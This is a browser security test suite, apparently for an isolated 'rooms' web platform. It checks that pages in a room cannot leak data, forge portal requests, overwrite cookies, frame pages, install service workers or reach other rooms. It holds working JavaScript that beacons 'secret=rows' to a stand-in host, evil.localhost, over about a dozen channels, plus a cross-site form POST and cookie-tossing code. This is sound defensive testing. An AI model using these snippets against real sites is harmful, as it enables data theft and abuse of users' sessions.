"""A page that a researcher wrote cannot act on the portal, on views or on other rooms, nor send home what it knows.

In a real browser, in which the victim is logged in to the portal and in a room. A page elsewhere, without any policy,
does the same things: that is the control, since there they work.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page

from tests.browser import Visitor
from tests.conftest import Room, Stack, until
from tests.escapes.attempts import attempt
from tests.stories.conftest import Scene, enter, scene

__all__ = ["scene"]


@dataclass
class Elsewhere:
    """A server of the attacker's outside: what it was asked for, and pages without a policy."""

    origin: str
    asked: list[str] = field(default_factory=list)
    page: str = "<!doctype html><title>elsewhere</title>"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    class Web(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            there.asked.append(urlsplit(self.path).path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(there.page.encode())

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Web)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    there = Elsewhere(f"http://evil.localhost:{server.server_address[1]}")
    yield there
    server.shutdown()
    server.server_close()


BEACONS = """async origin => {
  const tell = what => `${origin}/${what}?secret=rows`;
  const quiet = promise => Promise.race([promise.catch(() => 0), new Promise(r => setTimeout(r, 1500))]);
  const put = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e); };
  await quiet(fetch(tell('fetch'), {mode: 'no-cors'}));
  try { navigator.sendBeacon(tell('beacon'), 'rows'); } catch {}
  put('img', {src: tell('image')});
  put('iframe', {src: tell('frame')});
  put('link', {rel: 'stylesheet', href: tell('style')});
  put('link', {rel: 'prefetch', href: tell('prefetch')});
  put('script', {src: tell('script')});
  put('video', {src: tell('video')});
  try { new EventSource(tell('events')); } catch {}
  const style = document.createElement('style');
  style.textContent = `@font-face {font-family: x; src: url("${tell('font')}")} body {font-family: x}`;
  document.body.append(style);
  const form = document.createElement('form');
  put('iframe', {name: 'into'});
  Object.assign(form, {action: tell('form'), method: 'post', target: 'into'});
  document.body.append(form);
  form.submit();
  await new Promise(r => setTimeout(r, 1500));
}"""


@attempt(
    "B1",
    "have a page in the room send what it knows to a server outside (fetch, beacon, image, frame, style, form, …)",
    wall="the policy in `gate.cfg` `room`",
    answer="the browser asks nothing",
)
def test_a_page_in_a_room_sends_nothing_home(
    scene: Scene, visitor: Callable[..., Visitor], elsewhere: Elsewhere
) -> None:
    page = enter(scene, visitor())
    page.evaluate(BEACONS, elsewhere.origin)
    assert elsewhere.asked == []
    page.goto(f"{elsewhere.origin}/page")
    page.evaluate(BEACONS, elsewhere.origin)
    assert {"/fetch", "/beacon", "/image", "/frame", "/style", "/script", "/form"} <= set(elsewhere.asked)


@attempt(
    "B2",
    "read or change the portal from a page in a room with its visitor's login",
    wall="cross-site origins, `portal/guard.py`, the policy in `gate.cfg`",
    answer="nothing is read, nothing is sent",
)
def test_a_page_in_a_room_cannot_use_the_portal(scene: Scene, visitor: Callable[..., Visitor]) -> None:
    page = enter(scene, visitor())
    portal = scene.stack.settings.portal_origin
    ask = (
        "async url => { try { return (await fetch(url, {credentials: 'include'})).status } catch { return 'refused' } }"
    )
    post = ask.replace("{credentials", "{method: 'POST', mode: 'no-cors', credentials")
    assert page.evaluate(ask, "/api/status") == 200
    assert page.evaluate(ask, f"{portal}/") == "refused"
    assert page.evaluate(post, f"{portal}/rooms/{scene.room.id}/close") == "refused"
    assert scene.room.request("GET", "/api/status").status_code == 200


@attempt(
    "B3",
    "send the portal a form from a page elsewhere, with its visitor's login",
    wall="SameSite, `portal/guard.py`",
    answer="403",
)
def test_a_form_elsewhere_does_not_reach_the_portal(
    scene: Scene, visitor: Callable[..., Visitor], elsewhere: Elsewhere
) -> None:
    page = enter(scene, visitor())
    close = f"{scene.stack.settings.portal_origin}/rooms/{scene.room.id}/close"
    elsewhere.page = f"<form method=post action='{close}'><button>go</button></form>"
    page.goto(elsewhere.origin)
    with page.expect_response(close) as answered:
        page.get_by_role("button").click()
    assert answered.value.status == 403
    assert scene.room.request("GET", "/api/status").status_code == 200


@attempt(
    "B4", "put the portal, a view or a room into a frame", wall="`frame-ancestors`", answer="the browser shows nothing"
)
def test_nothing_of_ours_is_shown_in_a_frame(
    scene: Scene, visitor: Callable[..., Visitor], elsewhere: Elsewhere
) -> None:
    page = enter(scene, visitor())
    page.goto(f"{elsewhere.origin}/page")

    def framed(url: str) -> bool:
        """Whether a page loads in a frame; what is refused shows the browser's own page of errors."""
        with page.expect_event("framenavigated", lambda frame: frame.url != "about:blank") as shown:
            page.evaluate(
                "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f) }", url
            )
        return bool(shown.value.url == url)

    settings = scene.stack.settings
    assert framed(f"{elsewhere.origin}/harmless")
    for url in (f"{settings.portal_origin}/login", f"{scene.room.origin}/lab", f"{settings.content_origin}/view/x"):
        assert not framed(url), url


@attempt(
    "B5",
    "toss cookies at the portal or at another room, or read theirs",
    wall="`__Host-` names, HttpOnly, one host a room",
    answer="they stay as they are",
)
def test_cookies_cannot_be_tossed_or_read(scene: Scene, visitor: Callable[..., Visitor]) -> None:
    page = enter(scene, visitor())
    portal = scene.stack.settings.portal_origin
    before = {c["name"]: c["value"] for c in page.context.cookies(portal)}
    assert "__Host-session" in before
    said = page.evaluate("""() => {
      for (const name of ['__Host-session', '__Host-room', '__Host-language', 'plain'])
        for (const more of ['; Domain=localhost', '; Domain=rooms-test.localhost', '; Secure', ''])
          document.cookie = `${name}=tossed; Path=/${more}`;
      return document.cookie;
    }""")
    assert "plain=tossed" in said  # the control: an ordinary cookie of its own host it may set
    assert "ey" not in said.replace("key", "")  # no ticket can be read
    after = {c["name"]: c["value"] for c in page.context.cookies(portal)}
    assert {name: after[name] for name in before} == before
    assert "tossed" not in str([c for c in page.context.cookies(portal) if c["name"].startswith("__Host-")])
    page.goto(portal)
    assert page.get_by_role("button", name="Log out").is_visible()


@attempt(
    "B6",
    "install a service worker that answers for a room's pages",
    wall="`Service-Worker` refused by `gate.cfg`",
    answer="403, `worker`",
)
def test_a_room_cannot_install_a_worker(scene: Scene, visitor: Callable[..., Visitor], elsewhere: Elsewhere) -> None:
    page = enter(scene, visitor())
    install = """async path => {
      try { await navigator.serviceWorker.register(path); return 'installed' } catch (e) { return e.name }
    }"""
    script = page.evaluate(
        "performance.getEntriesByType('resource').map(e => e.name).find(n => n.includes('remoteEntry'))"
    )
    assert page.evaluate("async url => (await fetch(url)).headers.get('content-type')", script).endswith("/javascript")
    assert page.evaluate(install, urlsplit(script).path) != "installed"
    elsewhere.page = "// a worker"
    page.goto(f"{elsewhere.origin}/page")
    assert page.evaluate(install, "/worker.js") == "installed"


@attempt(
    "B7",
    "reach back into a window that a page in a room opened, or the one that opened it",
    wall="Cross-Origin-Opener-Policy",
    answer="no handle",
)
def test_windows_know_nothing_of_each_other(
    scene: Scene, visitor: Callable[..., Visitor], elsewhere: Elsewhere
) -> None:
    page = enter(scene, visitor())
    login = f"{scene.stack.settings.portal_origin}/login"

    def opener_of(url: str) -> bool:
        """Whether the opened window has a hold on the one that opened it."""
        with page.context.expect_page() as opened:
            page.evaluate("url => { window.other = window.open(url) }", url)
        popup: Page = opened.value
        popup.wait_for_load_state()
        held = bool(popup.evaluate("window.opener !== null"))
        popup.close()
        return held

    assert not opener_of(login)
    page.goto(f"{elsewhere.origin}/page")
    assert opener_of(f"{elsewhere.origin}/harmless")
    assert not opener_of(login)
    assert not opener_of(f"{scene.room.origin}/lab")


@attempt(
    "B8",
    "read or open anything of another room from a page in one",
    wall="the policy, Origin and Sec-Fetch rules in `gate.cfg`",
    answer="the browser asks nothing",
)
def test_a_page_in_a_room_cannot_read_another(
    stack: Stack, scene: Scene, visitor: Callable[..., Visitor], rooms: tuple[Room, Room]
) -> None:
    page = enter(scene, visitor())
    other = rooms[1].origin
    said = page.evaluate(
        """async origin => {
      const answers = {};
      for (const mode of ['cors', 'no-cors'])
        try { answers[mode] = (await fetch(`${origin}/api/status`, {mode, credentials: 'include'})).type }
        catch { answers[mode] = 'refused' }
      answers.socket = await new Promise(done => {
        try { const s = new WebSocket(origin.replace('http', 'ws') + '/api/events/subscribe');
              s.onopen = () => done('open'); s.onerror = () => done('refused'); } catch { done('refused') } });
      answers.picture = await new Promise(done => {
        const i = new Image(); i.onload = () => done('shown'); i.onerror = () => done('refused');
        i.src = `${origin}/static/favicons/favicon.ico`; });
      answers.own = await new Promise(done => {
        const i = new Image(); i.onload = () => done('shown'); i.onerror = () => done('refused');
        i.src = '/static/favicons/favicon.ico'; });
      return answers;
    }""",
        other,
    )
    assert said == {"cors": "refused", "no-cors": "refused", "socket": "refused", "picture": "refused", "own": "shown"}
    until(lambda: scene.room.request("GET", "/api/status").status_code == 200, 10)
